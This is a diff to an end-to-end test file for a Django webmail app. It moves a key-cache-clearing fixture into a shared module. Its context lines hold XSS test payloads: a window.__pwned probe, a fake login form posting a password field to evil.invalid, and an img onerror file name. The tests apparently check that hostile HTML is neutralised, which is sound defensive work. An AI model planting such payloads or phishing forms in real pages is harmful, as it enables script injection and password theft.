@@ -6,13 +6,17 @@ from __future__ import annotations
 import pytest
 from playwright.sync_api import expect
 
-from apps.mailboxes.keys import clear_cache
 from apps.mailboxes.models import Mailbox
 from apps.messaging.models import MessageCopy
 from tests.e2e.test_mailbox_admin import _login
 from tests.messaging.helpers import pdf_part, send
+from tests.messaging.webmail_fixtures import fresh_mailbox_keys  # noqa: F401 (fixture)
 
-pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
+pytestmark = [
+    pytest.mark.e2e,
+    pytest.mark.django_db(transaction=True),
+    pytest.mark.usefixtures("fresh_mailbox_keys"),
+]
 
 PROBE = "window.__pwned = (window.__pwned || 0) + 1"
 HOSTILE_HTML = (
@@ -25,13 +29,6 @@ HOSTILE_HTML = (
     '<form action="https://evil.invalid/"><input name="mdp"><button>Valider</button></form>'
 )
 HOSTILE_NAME = "<img src=x onerror=\"alert('nom')\">"
-
-
-@pytest.fixture(autouse=True)
-def _fresh_mailbox_keys():
-    clear_cache()
-    yield
-    clear_cache()
 
 
 @pytest.fixture
